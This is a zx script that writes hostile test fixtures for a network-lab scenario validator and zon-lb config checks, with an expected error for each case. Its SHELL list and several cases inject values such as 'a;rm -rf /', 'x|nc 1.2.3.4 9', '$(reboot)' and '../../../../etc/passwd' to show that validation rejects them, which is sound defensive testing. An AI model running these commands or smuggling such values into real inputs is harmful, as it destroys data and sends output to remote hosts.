#!/usr/bin/env zx
// Writes test/fixtures/hostile/: broken and hostile scenario and zonlb.toml files, each a valid base
// with one thing wrong, and its expectation (the key the error must name, and a pattern of the
// message) in test/fixtures/hostile/expectations.json. Run it again after changing the base.
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';

const dir = path.resolve(
  import.meta.dirname ?? path.dirname(new URL(import.meta.url).pathname),
  '..',
  'test',
  'fixtures',
  'hostile',
);
rmSync(dir, { recursive: true, force: true });
mkdirSync(dir, { recursive: true });

const ZONLB = `[netif.veth0.1]\nip = "10.0.0.1"\nproto = 6\nport = 23\n\n[backend.1_0]\nip = "127.0.0.23"\nproto = 6\nport = 223\noptions = ["redirect"]\n`;
const BASE = `name = "base"
description = "a valid base"

[[netns]]
name = "zone1"

[[veth]]
a = { name = "veth0", addresses = ["10.0.0.1/24"], ethtool = { tx = "off" } }
b = { name = "veth1", netns = "zone1", addresses = ["10.0.0.2/24"] }

[[address]]
dev = "lo"
address = "127.0.0.23/24"

[[route]]
netns = "zone1"
to = "10.9.0.0/16"
via = "10.0.0.1"

[[sysctl]]
key = "net.ipv4.conf.veth0.accept_local"
value = 1

[lb]
driver = "nft"
config = "ok.zonlb.toml"

[[server]]
name = "backend"
address = "127.0.0.23"
port = 223

[[check]]
name = "telnet"
kind = "telnet"
from = "zone1"
to = "10.0.0.1"
port = 23
server = "backend"
`;
writeFileSync(path.join(dir, 'ok.zonlb.toml'), ZONLB);
writeFileSync(path.join(dir, 'base.toml'), BASE);

const SHELL = [
  '$(reboot)',
  '`id`',
  'a;rm -rf /',
  'x|nc 1.2.3.4 9',
  'a&&b',
  '> /etc/passwd',
  "a'b",
  'a"b',
  'a b',
  '../x',
  'x\\ny',
];
const cases = [];
const scenario = (name, text, key, message) => cases.push({ file: `${name}.toml`, text, key, message });
const edit = (from, to) => {
  if (!BASE.includes(from)) throw new Error(`base lacks ${from}`);
  return BASE.replace(from, to);
};
const tomlStr = (s) => JSON.stringify(s);

// shell metacharacters in every string field that reaches a command
const fields = [
  [
    'netns-name',
    'name = "zone1"\n\n[[veth]]',
    (v) => `name = ${tomlStr(v)}\n\n[[veth]]`,
    'netns[0].name',
    /not a valid namespace name/,
  ],
  ['veth-name', 'name = "veth0"', (v) => `name = ${tomlStr(v)}`, 'veth[0].a.name', /not a valid interface name/],
  [
    'veth-netns',
    'netns = "zone1", addresses',
    (v) => `netns = ${tomlStr(v)}, addresses`,
    'veth[0].b.netns',
    /is not declared/,
  ],
  ['address', '"127.0.0.23/24"', (v) => tomlStr(v), 'address[0].address', /not an address with a prefix/],
  ['address-dev', 'dev = "lo"', (v) => `dev = ${tomlStr(v)}`, 'address[0].dev', /an interface name/],
  ['route-via', 'via = "10.0.0.1"', (v) => `via = ${tomlStr(v)}`, 'route[0].via', /not an IP address/],
  [
    'sysctl-key',
    'key = "net.ipv4.conf.veth0.accept_local"',
    (v) => `key = ${tomlStr(`net.ipv4.${v}`)}`,
    'sysctl[0].key',
    /not a network sysctl key/,
  ],
  ['sysctl-value', 'value = 1', (v) => `value = ${tomlStr(v)}`, 'sysctl[0].value', /not a plain sysctl value/],
  [
    'lb-config',
    'config = "ok.zonlb.toml"',
    (v) => `config = ${tomlStr(v)}`,
    'lb.config',
    /not a file name next to the scenario|cannot read/,
  ],
  [
    'server-address',
    'address = "127.0.0.23"\nport = 223',
    (v) => `address = ${tomlStr(v)}\nport = 223`,
    'server[0].address',
    /not an IP address/,
  ],
  ['check-to', 'to = "10.0.0.1"', (v) => `to = ${tomlStr(v)}`, 'check[0].to', /not an IP address/],
  ['check-name', 'name = "telnet"', (v) => `name = ${tomlStr(v)}`, 'check[0].name', /not a valid name/],
  [
    'ethtool-feature',
    'ethtool = { tx = "off" }',
    (v) => `ethtool = { ${tomlStr(v)} = "off" }`,
    'veth[0].a.ethtool',
    /not an ethtool feature name/,
  ],
];
for (const [field, from, to, key, message] of fields) {
  for (const [i, v] of SHELL.slice(0, 3).entries()) scenario(`shell-${field}-${i}`, edit(from, to(v)), key, message);
}
for (const [i, v] of SHELL.slice(3).entries())
  scenario(
    `shell-veth-name-more-${i}`,
    edit('name = "veth0"', `name = ${tomlStr(v)}`),
    'veth[0].a.name',
    /not a valid interface name/,
  );

// syntax, types, keys, references, ranges
scenario('toml-syntax', `${BASE}\n[[check]\nname = "x"\n`, '', /not valid TOML/);
scenario('toml-unclosed-string', BASE.replace('name = "base"', 'name = "base'), '', /not valid TOML/);
scenario('toml-duplicate-key', BASE.replace('name = "base"', 'name = "base"\nname = "again"'), '', /not valid TOML/);
scenario('wrong-type-port', edit('port = 223', 'port = "223"'), 'server[0].port', /out of range/);
scenario(
  'wrong-type-netns-list',
  edit('[[netns]]\nname = "zone1"', '[netns]\nname = "zone1"'),
  'netns',
  /must be an array of tables/,
);
scenario('float-port', edit('port = 23', 'port = 23.5'), 'check[0].port', /out of range/);
scenario('huge-port', edit('port = 23', 'port = 4294967296'), 'check[0].port', /out of range/);
scenario('huger-than-double-port', edit('port = 23', 'port = 99999999999999999'), '', /not valid TOML: .*losslessly/);
scenario('negative-port', edit('port = 23', 'port = -23'), 'check[0].port', /out of range/);
scenario(
  'nan-mtu',
  edit('ethtool = { tx = "off" }', 'ethtool = { tx = "off" }, mtu = nan'),
  'veth[0].a.mtu',
  /out of range/,
);
scenario(
  'inf-duration',
  edit('server = "backend"\n', 'server = "backend"\n')
    .replace('kind = "telnet"', 'kind = "iperf3"')
    .concat('duration = inf\n'),
  'check[0].duration',
  /out of range/,
);
scenario('unknown-top-key', `nmae = "x"\n${BASE}`, 'nmae', /unknown key/);
scenario('unknown-check-key', edit('port = 23', 'port = 23\nprot = "tcp"'), 'check[0].prot', /unknown key/);
scenario('missing-check-to', edit('to = "10.0.0.1"\n', ''), 'check[0].to', /is required/);
scenario(
  'missing-veth-end',
  edit('b = { name = "veth1", netns = "zone1", addresses = ["10.0.0.2/24"] }', ''),
  'veth[0]',
  /needs both ends/,
);
scenario(
  'duplicate-netns',
  edit('[[veth]]', '[[netns]]\nname = "zone1"\n\n[[veth]]'),
  'netns[1].name',
  /declared twice/,
);
scenario(
  'duplicate-interface',
  edit('b = { name = "veth1"', 'b = { name = "veth0"').replace('netns = "zone1", addresses', 'addresses'),
  'veth[0].b.name',
  /already exists/,
);
scenario(
  'name-too-long',
  edit('name = "veth0"', 'name = "averyveryverylongname0"'),
  'veth[0].a.name',
  /not a valid interface name/,
);
scenario('name-with-slash', edit('name = "veth0"', 'name = "veth/0"'), 'veth[0].a.name', /not a valid interface name/);
scenario('name-with-colon', edit('name = "veth0"', 'name = "veth:0"'), 'veth[0].a.name', /not a valid interface name/);
scenario(
  'netns-dotdot',
  edit('name = "zone1"\n\n[[veth]]', 'name = "..zone"\n\n[[veth]]'),
  'netns[0].name',
  /not a valid namespace name/,
);
scenario(
  'cidr-prefix-33',
  edit('"127.0.0.23/24"', '"127.0.0.23/33"'),
  'address[0].address',
  /not an address with a prefix/,
);
scenario(
  'cidr-v6-prefix-129',
  edit('"127.0.0.23/24"', '"2001:db8::1/129"'),
  'address[0].address',
  /not an address with a prefix/,
);
scenario(
  'cidr-no-prefix',
  edit('"127.0.0.23/24"', '"127.0.0.23"'),
  'address[0].address',
  /not an address with a prefix/,
);
scenario(
  'address-out-of-range',
  edit('"10.0.0.1/24"', '"10.0.0.256/24"'),
  'veth[0].a.addresses[0]',
  /not an address with a prefix/,
);
scenario('undeclared-check-netns', edit('from = "zone1"', 'from = "zone9"'), 'check[0].from', /not declared/);
scenario('undeclared-interface', edit('dev = "lo"', 'dev = "eth9"'), 'address[0].dev', /no interface eth9/);
scenario(
  'sysctl-dotdot',
  edit('key = "net.ipv4.conf.veth0.accept_local"', 'key = "net.ipv4..conf"'),
  'sysctl[0].key',
  /not a network sysctl key/,
);
scenario(
  'sysctl-slash',
  edit('key = "net.ipv4.conf.veth0.accept_local"', 'key = "net/ipv4/ip_forward"'),
  'sysctl[0].key',
  /not a network sysctl key/,
);
scenario(
  'sysctl-not-net',
  edit('key = "net.ipv4.conf.veth0.accept_local"', 'key = "kernel.core_pattern"'),
  'sysctl[0].key',
  /not a network sysctl key/,
);
scenario(
  'route-family-mismatch',
  edit('to = "10.9.0.0/16"', 'to = "2001:db8:9::/64"'),
  'route[0].via',
  /is IPv4 but the route is IPv6/,
);
scenario(
  'v4-server-behind-v6-vip',
  edit('to = "10.0.0.1"', 'to = "2001:db8::1"'),
  'check[0].to',
  /IPv4 server .* behind an IPv6/,
);
scenario('unknown-server', edit('server = "backend"', 'server = "nobody"'), 'check[0].server', /no server named/);
scenario('unknown-driver', edit('driver = "nft"', 'driver = "ipvs"'), 'lb.driver', /not a driver/);
scenario(
  'config-escapes',
  edit('config = "ok.zonlb.toml"', 'config = "../../../../etc/passwd"'),
  'lb.config',
  /not a file name next to the scenario/,
);
scenario('config-missing', edit('config = "ok.zonlb.toml"', 'config = "nope.zonlb.toml"'), 'lb.config', /cannot read/);
scenario('topology-dotdot', `topology = "../x"\n${BASE}`, 'topology', /not a topology name/);
scenario('param-unknown', edit('port = 23', 'port = "${nope}"'), 'check[0].port', /unknown parameter/);
scenario('param-reserved', `[params]\ni = 1\n${BASE}`, 'params.i', /reserved/);
scenario(
  'count-huge',
  edit('[[netns]]\nname = "zone1"', '[[netns]]\nname = "zone1"\ncount = 1000000'),
  'netns[0].count',
  /not a count/,
);
scenario(
  'pool-overflow',
  edit('a = { name = "veth0"', 'count = 9\npool = "10.5.0.0/29"\na = { name = "veth0"'),
  'veth[0].pool',
  /subnets of \/30, but count is 9/,
);
scenario(
  'xdp-program-path',
  edit('addresses = ["10.0.0.2/24"] }', 'addresses = ["10.0.0.2/24"], xdp = "../../etc/evil" }'),
  'veth[0].b.xdp',
  /not a program name/,
);

// zonlb.toml: what zon-lb itself refuses (serde, or an ERROR it logs), or names what the lab lacks;
// what zon-lb accepts (unknown keys, a backend without a group, an unknown option) is only a warning
const zonlbCases = [
  ['zonlb-syntax', '[netif.veth0.1\nip = 1', '', /not valid TOML/],
  [
    'zonlb-bad-ip',
    ZONLB.replace('ip = "10.0.0.1"', 'ip = "10.0.0.1;reboot"'),
    'netif.veth0.1.ip',
    /not an IPv4 or IPv6 address/,
  ],
  [
    'zonlb-bad-proto',
    ZONLB.replace('proto = 6\nport = 23', 'proto = 300\nport = 23'),
    'netif.veth0.1.proto',
    /not a protocol number/,
  ],
  ['zonlb-port-range', ZONLB.replace('port = 223', 'port = 70000'), 'backend.1_0.port', /not a port/],
  [
    'zonlb-options-not-list',
    ZONLB.replace('options = ["redirect"]', 'options = "$(id)"'),
    'backend.1_0.options',
    /must be a list of strings/,
  ],
  [
    'zonlb-src-ip-shell',
    ZONLB.replace('"redirect"', '"src_ip=`id`"'),
    'backend.1_0.options',
    /not an IPv4 or IPv6 address/,
  ],
  [
    'zonlb-bad-gid',
    ZONLB.replace('[netif.veth0.1]', '[netif.veth0."1;id"]'),
    'netif.veth0.1;id',
    /group id must be a whole number/,
  ],
  [
    'zonlb-bad-ifname',
    ZONLB.replace('[netif.veth0.1]', '[netif."veth0;x".1]'),
    'netif.veth0;x',
    /not a valid interface name/,
  ],
  [
    'zonlb-family-mismatch',
    ZONLB.replace('ip = "127.0.0.23"', 'ip = "2001:db8::2"'),
    'backend.1_0.ip',
    /is IPv6 but the service's VIP .* is IPv4/,
  ],
  ['zonlb-no-backend-table', ZONLB.slice(0, ZONLB.indexOf('[backend.1_0]')), 'backend', /is required/],
  [
    'zonlb-redirect-elsewhere',
    ZONLB.replace('"redirect"', '"redirect=eth9"'),
    'backend.1_0.options',
    /names interface eth9, which the scenario does not create/,
  ],
  [
    'zonlb-bad-mac',
    ZONLB.replace('"redirect"', '"redirect", "mac=ff:ff:ff:ff:ff:ff"'),
    'backend.1_0.options',
    /not a unicast MAC address/,
  ],
  ['zonlb-bad-clean', `[actions]\nclean = "all"\n${ZONLB}`, 'actions.clean', /not a clean option/],
];
for (const [name, text, key, message] of zonlbCases) {
  writeFileSync(path.join(dir, `${name}.zonlb.toml`), text);
  cases.push({
    file: `${name}.toml`,
    text: edit('config = "ok.zonlb.toml"', `config = "${name}.zonlb.toml"`),
    key,
    message,
    zonlbFile: `${name}.zonlb.toml`,
  });
}
for (const c of cases) writeFileSync(path.join(dir, c.file), c.text);
// not UTF-8: Latin-1 bytes in a string
writeFileSync(
  path.join(dir, 'not-utf8.toml'),
  Buffer.concat([Buffer.from('name = "'), Buffer.from([0xe9, 0xff]), Buffer.from('"\n')]),
);
cases.push({ file: 'not-utf8.toml', key: '', message: /is not UTF-8/ });
writeFileSync(
  path.join(dir, 'expectations.json'),
  `${JSON.stringify(
    cases.map(({ file, key, message, zonlbFile }) => ({ file, key, message: message.source, zonlbFile })),
    null,
    1,
  )}\n`,
);
console.log(`${cases.length} cases, ${cases.length + zonlbCases.length} files in ${dir}`);
